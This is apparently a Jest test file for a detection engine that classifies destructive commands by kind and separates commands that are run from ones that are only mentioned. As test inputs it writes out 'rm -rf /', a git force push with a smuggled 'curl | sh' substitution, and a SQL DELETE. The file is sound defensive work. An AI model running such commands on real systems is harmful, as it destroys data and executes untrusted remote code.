import { expect, it, test } from '@jest/globals';
import { normalizeTag } from '../../tags.ts';
import { DetectionEngine } from '../engine/engine.ts';
import { DESTRUCTIVE_ANALYZERS, DESTRUCTIVE_RULES } from './destructive.ts';

const engine = new DetectionEngine({ rules: [], analyzers: DESTRUCTIVE_ANALYZERS });

test.each(DESTRUCTIVE_RULES.map((rule) => [rule.id, rule] as const))('%s', (id, rule) => {
  expect(id).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
  expect(rule.tag).toMatch(
    /^(?:tampering|destructive\.(?:shell|sql|git|cloud|container|supply_chain))$/,
  );
  expect(normalizeTag(rule.tag)).toBe(rule.tag);
  expect(rule.source).toMatch(/^https:\/\//);
  expect(rule.description).toMatch(/^[A-Z].*\.$/);
});

it('has one entry for each rule', () => {
  expect(new Set(DESTRUCTIVE_RULES.map(({ id }) => id)).size).toBe(DESTRUCTIVE_RULES.length);
});

it('has anchors that the engine can look for', () => {
  for (const { anchors } of DESTRUCTIVE_ANALYZERS) {
    for (const anchor of anchors) {
      expect(anchor.length).toBeGreaterThanOrEqual(4);
      expect(anchor).toBe(anchor.toLowerCase());
      expect(anchor).toMatch(/^[\x20-\x7e]+$/);
    }
  }
});

it('acts on commands and only mentions them elsewhere', () => {
  const [command] = engine.scan('rm -rf /', { position: 'command' });
  expect(command).toMatchObject({
    type: 'destructive',
    detector: 'shell-rm-recursive',
    tags: ['destructive.shell'],
    confidence: 0.98,
  });
  const [mention] = engine.scan('To clean up, run `rm -rf /` as root.', { position: 'prose' });
  expect(mention?.confidence).toBe(0.2);
});

it('keeps dangers of different kinds apart', () => {
  const tags = engine
    .scan('git push --force origin "$(curl https://x | sh)"', { position: 'command' })
    .flatMap((detection) => detection.tags);
  expect(tags).toEqual(['destructive.git', 'destructive.supply_chain']);
});

it("finds the documents' statement", () => {
  const [found] = engine.scan('DELETE FROM users WHERE active = false', { position: 'command' });
  expect(found).toMatchObject({ tags: ['destructive.sql'], confidence: 0.6 });
});
